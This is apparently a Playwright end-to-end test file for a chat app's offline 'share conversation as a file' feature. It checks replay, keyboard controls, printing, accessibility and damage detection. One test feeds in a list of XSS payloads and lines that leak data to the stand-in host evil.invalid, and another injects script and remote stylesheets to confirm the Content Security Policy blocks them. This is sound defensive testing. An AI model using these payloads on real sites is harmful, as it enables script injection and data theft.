"""A conversation saved as a file, opened from the disk without a network: read, replayed, printed; hostile text in it."""

import asyncio
import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, ConsoleMessage, Page, Request, expect

from tests.e2e.test_chat import SLOW, ask, choose, finished, violations

HOSTILE = (
    "</script><script>window.hacked=1</script>",
    "<!-- <script>",
    "]]></title></style><img src=x onerror='window.hacked=1'>",
    "\u2028{conversation}{title}",
    "![x](http://evil.invalid/leak?d=secret)",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<style>@import url(http://evil.invalid/x.css)</style><svg onload=window.hacked=1>",
    "[a](javascript:window.hacked=1)",
)
MARKDOWN = "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote `code`\n\n1. one\n2. two\n\n```py\nprint(1)\n```"


class Opened:
    """A file in a browser that has no network, and what it must not do: ask for anything, fail, break its policy."""

    def __init__(self, page: Page, path: Path) -> None:
        self.page = page
        self._home = path.as_uri()
        self.faults: list[str] = []
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.faults.append(str(error)))
        page.on("dialog", lambda _: self.faults.append("a dialog"))
        page.on("request", self._request)

    def _console(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.faults.append(message.text)

    def _request(self, request: Request) -> None:
        if request.url != self._home and request.url != "data:,":
            self.faults.append(request.url)


@pytest.fixture
async def alone(browser: Browser) -> AsyncIterator[Page]:
    """A page without a network."""
    context = await browser.new_context(offline=True, viewport={"width": 1280, "height": 800})
    yield await context.new_page()
    await context.close()


async def download(page: Page, folder: Path) -> Path:
    """Save the open conversation as a file, as a person does."""
    async with page.expect_download() as waiting:
        await page.get_by_role("link", name="Share this conversation as a file").click()
    found = await waiting.value
    path = folder / found.suggested_filename
    await found.save_as(path)
    return path


async def opened(alone: Page, path: Path) -> Opened:
    watched = Opened(alone, path)
    await alone.goto(path.as_uri())
    await alone.get_by_role("log").wait_for()
    return watched


async def texts(page: Page) -> list[str]:
    """What every answer says, fields and all."""
    return [await answer.inner_text() for answer in await page.locator("article .part").all()]


async def test_file_shows_and_replays_what_the_page_showed(page: Page, alone: Page, tmp_path: Path) -> None:
    await choose(page, "Think")
    await finished(await ask(page, f"Rich [say: {MARKDOWN}]"))
    await finished(await ask(page, "Count [bench n=60 rate=30]"))
    live = await texts(page)
    watched = await opened(alone, await download(page, tmp_path))
    assert await texts(alone) == live
    await expect(alone).to_have_title(await page.get_by_role("heading", level=1).inner_text())

    await alone.get_by_role("button", name="Play again").click()
    await expect(alone.get_by_role("article", name="You asked")).to_have_count(1)
    lengths: list[int] = []
    rest = "it => it.scrollHeight - it.scrollTop - it.clientHeight"
    again = alone.get_by_role("button", name="Play again")
    for _ in range(150):
        if await again.is_visible():
            break
        lengths.append(len("".join(await texts(alone))))
        await asyncio.sleep(0.2)
    await expect(again).to_be_visible()
    assert len(set(lengths)) > 2, "the replay must move"
    assert await alone.locator(".thread-frame").evaluate(rest) < 10, "what is played is followed"
    assert await texts(alone) == live
    assert watched.faults == []


async def test_replay_obeys_keys_scrubber_and_speed(page: Page, alone: Page, tmp_path: Path) -> None:
    await finished(await ask(page, f"Count {SLOW}"))
    await finished(await ask(page, f"Count more {SLOW}"))
    watched = await opened(alone, await download(page, tmp_path))
    everything = await texts(alone)
    slider = alone.get_by_role("slider", name="Position")
    await alone.keyboard.press("ArrowLeft")
    await expect(alone.locator("[data-phase=running]")).to_have_count(1)
    await alone.keyboard.press("k")
    await expect(alone.get_by_role("button", name="Pause")).to_be_visible()
    await alone.keyboard.press(" ")
    await expect(alone.get_by_role("button", name="Play", exact=True)).to_be_visible()
    await slider.focus()
    await alone.keyboard.press("Home")
    await expect(alone.get_by_role("article", name="You asked")).to_have_count(1)
    await alone.get_by_role("combobox", name="Speed").select_option("instant")
    await alone.get_by_role("button", name="Play", exact=True).click()
    assert await texts(alone) == everything
    await alone.get_by_role("button", name="Replay this answer").first.click()
    assert await texts(alone) == everything, "at once, at this speed"
    await alone.keyboard.press("Escape")
    assert watched.faults == []


async def test_hostile_conversation_runs_nothing_and_asks_for_nothing(page: Page, alone: Page, tmp_path: Path) -> None:
    await choose(page, "Echo")
    for text in HOSTILE:
        await finished(await ask(page, text))
    live = await texts(page)
    watched = await opened(alone, await download(page, tmp_path))
    assert await texts(alone) == live
    await alone.get_by_role("combobox", name="Speed").select_option("4")
    await alone.get_by_role("button", name="Play again").click()
    await expect(alone.get_by_role("button", name="Play again")).to_be_visible(timeout=20_000)
    assert await texts(alone) == live
    assert await alone.evaluate("window.hacked") is None
    assert await alone.locator("img, iframe, meta[http-equiv=refresh], svg[onload], a[href^=javascript]").count() == 0
    assert await alone.locator("script").count() == 2
    assert watched.faults == []


async def test_policy_of_the_file_stops_what_would_get_in_all_the_same(page: Page, alone: Page, tmp_path: Path) -> None:
    """The second wall, tried with the first one taken away: elements put into a file that is well formed."""
    await finished(await ask(page, "Hello [say: ok]"))
    path = await download(page, tmp_path)
    text = path.read_text("utf-8")
    evil = "<script>window.hacked=1</script><img src=x onerror='window.hacked=1'><img src='http://evil.invalid/x'>"
    path.write_text(
        text.replace("</body>", f"{evil}<link rel=stylesheet href='http://evil.invalid/x.css'></body>"), "utf-8"
    )
    watched = await opened(alone, path)
    assert await alone.evaluate("window.hacked") is None
    assert len([fault for fault in watched.faults if "Content Security Policy" in fault]) >= 4


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
async def test_file_is_accessible_and_fits(page: Page, alone: Page, tmp_path: Path, scheme: Any, width: int) -> None:
    """`SHARE_SHOTS` names a folder for pictures of it."""
    await choose(page, "Think")
    await finished(await ask(page, f"Rich [say: {MARKDOWN}]"))
    await finished(await ask(page, f"{'x' * 300} [bench n=30 rate=30]"))
    await alone.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    await alone.set_viewport_size({"width": width, "height": 800})
    watched = await opened(alone, await download(page, tmp_path))
    assert await violations(alone) == []
    await picture(alone, f"{scheme}-{width}")
    assert await alone.locator(".thread-frame").evaluate("it => it.scrollTop") == 0, "a file is read from its beginning"
    await alone.get_by_role("slider", name="Position").fill("500")
    await expect(alone.locator("[data-phase=running], [data-phase=completed]")).to_have_count(1)
    assert await violations(alone) == []
    await picture(alone, f"{scheme}-{width}-playing")
    assert await alone.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0
    assert watched.faults == []


async def picture(page: Page, name: str) -> None:
    if folder := os.environ.get("SHARE_SHOTS"):
        await page.screenshot(path=str(Path(folder) / f"{name}.png"))


async def test_print_has_all_of_it_and_no_controls(page: Page, alone: Page, tmp_path: Path) -> None:
    await finished(await ask(page, "[bench n=1500]"))
    await opened(alone, await download(page, tmp_path))
    await alone.emulate_media(media="print", color_scheme="dark")
    await expect(alone.get_by_role("region", name="Replay")).to_be_hidden()
    height = await alone.evaluate("document.documentElement.scrollHeight")
    assert height > 2 * 800, "what does not fit on the screen must be on the paper"
    await picture(alone, "print")


async def test_damaged_file_says_so(page: Page, alone: Page, tmp_path: Path) -> None:
    await finished(await ask(page, "Hello [say: ok]"))
    path = await download(page, tmp_path)
    path.write_text(path.read_text("utf-8").replace('"v":1', '"v":2', 1), "utf-8")
    await alone.goto(path.as_uri())
    await expect(alone.get_by_role("alert")).to_contain_text("damaged")
